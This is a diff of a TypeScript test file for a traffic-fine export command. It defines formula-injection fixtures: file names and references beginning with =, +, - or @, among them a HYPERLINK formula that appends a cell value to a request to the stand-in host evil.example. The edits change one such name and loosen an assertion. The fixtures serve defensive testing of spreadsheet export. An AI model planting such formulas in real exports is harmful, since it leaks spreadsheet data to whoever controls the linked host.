@@ -42,7 +42,7 @@ function boete(args: string[], env: Record<string, string>): Promise<Run> {
   });
 }
 
-const hostileNames = ['=HYPERLINK("http://evil.example/?d="&A1,"klik").pdf', '+32 470 cmd.pdf', '-2+3+cmd.pdf', '@SUM(1+1)cmd.pdf'];
+const hostileNames = ['=HYPERLINK("evil.example?d="&A1,"klik").pdf', '+32 470 cmd.pdf', '-2+3+cmd.pdf', '@SUM(1+1)cmd.pdf'];
 const hostileRefs = ['=HYPERLINK("http://evil.example/?d="&A1;"klik")', '+AC-1', '-AC-2', '@AC-3'];
 const fines = hostileNames.map((_, i) =>
   makeFine('be-police-nl', 300 + i, { plateAsPrinted: `1-INJ-00${i}`, offenceDate: d('2026-11-10'), documentDate: d('2026-11-18') }),
@@ -155,7 +155,7 @@ describe('export --format table', () => {
   });
 
   it('shows the references, every mail (the question-only mail as "no document") and a legend', () => {
-    for (const f of fines) expect(out.replace(/\s+/g, '')).toContain(f.reference.replace(/\s+/g, ''));
+    for (const f of fines) expect(out).toContain(f.reference);
     expect(out).toContain('no document');
     expect(out).toContain('5 mail(s): 4 document(s), 1 mail(s) without a document');
     expect(out).toMatch(/^kind: F fine/m);
